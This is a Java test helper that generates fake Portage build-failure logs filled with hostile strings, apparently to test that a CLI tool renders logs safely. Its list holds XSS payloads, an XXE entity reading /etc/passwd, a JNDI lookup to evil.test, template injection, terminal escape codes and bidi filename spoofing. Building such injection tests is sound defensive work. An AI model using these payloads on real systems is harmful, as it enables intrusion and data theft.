package org.crossmend.cli;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** What somebody would write into a log who wants to be more than read. */
final class HostileTexts {

  /** One line each. */
  static final List<String> LINES =
      List.of(
          "<script>document.title='pwned';window.pwned=1;fetch('/pwned')</script>",
          "<img src=/pwned onerror=\"document.title='pwned';window.pwned=1\">",
          "</pre></code></summary></details></main></body></html><iframe src=/pwned></iframe>",
          "</title><script>window.pwned=1</script>",
          "</style><style>*{display:none}</style><link rel=stylesheet href=/pwned.css>",
          "\" onmouseover=\"window.pwned=1\" autofocus onfocus=\"window.pwned=1\" x=\"",
          "' style='background:url(http://evil.test/pwned)' x='",
          "<svg onload=window.pwned=1><a xlink:href=javascript:window.pwned=1>",
          "<meta http-equiv=refresh content='0;url=/pwned'><base href=//evil.test/>",
          "&lt;script&gt;&#60;script&#62;window.pwned=1&#60;/script&#62;",
          "\"},{\"pwned\":true}]}//\\\",\\n\\x22,\"pwned\":1",
          "]]></failure><pwned/><![CDATA[",
          "<!DOCTYPE x [<!ENTITY pwned SYSTEM \"file:///etc/passwd\">]>&pwned;",
          "<!-- --!> <pwned> -->",
          "````",
          "~~~~",
          "# pwned",
          "[pwned](javascript:window.pwned=1) ![pwned](http://evil.test/pwned) <http://evil.test/>",
          "@everyone #1 !2 GH-3 https://evil.test/pwned | a | b | \\` `` ` \\",
          chars(0x1b) + "[2J" + chars(0x1b) + "]0;pwned" + chars(7, 0x1b) + "[8m" + chars(8, 12),
          chars(0, 1, 0xb, 0x7f, 0x85, 0x9b) + "31m" + chars(0xfffe, 0xffff),
          chars(0x202e) + "txt.exe" + chars(0x202d, 0x2066, 0x2069, 0x200f, 0x61c, 0x2028, 0x2029),
          chars(0xd800) + " alone " + chars(0xdc00) + " and " + chars(0xd83d, 0xde00),
          "${jndi:ldap://evil.test/pwned} {{constructor.constructor('window.pwned=1')()}} %n%s",
          "x".repeat(5000));

  private static final byte[] NO_UTF_8 = {(byte) 0xff, (byte) 0xfe, (byte) 0xc3, 0x28};

  private HostileTexts() {}

  private static String chars(int... chars) {
    StringBuilder text = new StringBuilder();
    for (int c : chars) {
      text.append((char) c);
    }
    return text.toString();
  }

  /**
   * A log that is full of one of the lines.
   *
   * @param known whether a signature recognises the failure, with the line as what it caught
   */
  static byte[] log(int line, boolean known) {
    String text = LINES.get(line);
    ByteArrayOutputStream log = new ByteArrayOutputStream();
    add(log, ">>> Emerging (1 of 1) app-test/hostile-1." + line + "::lab");
    add(log, " * Package:    app-test/hostile-1." + line);
    add(log, " * Repository: lab");
    add(log, " * USE:        amd64 " + text);
    add(log, ">>> Compiling source in /var/tmp/portage/app-test/hostile-1." + line + "/work ...");
    add(log, text);
    log.writeBytes(NO_UTF_8);
    add(
        log,
        known
            ? "main.c:1:10: fatal error: " + text + ".h: No such file or directory"
            : "some-tool: fatal error: " + text);
    add(log, text);
    add(log, "make: *** [Makefile:3: main.o] Error 1");
    add(log, " * ERROR: app-test/hostile-1." + line + "::lab failed (compile phase):");
    add(log, " *   emake failed");
    return log.toByteArray();
  }

  private static void add(ByteArrayOutputStream log, String line) {
    log.writeBytes((line + "\n").getBytes(StandardCharsets.UTF_8));
  }
}
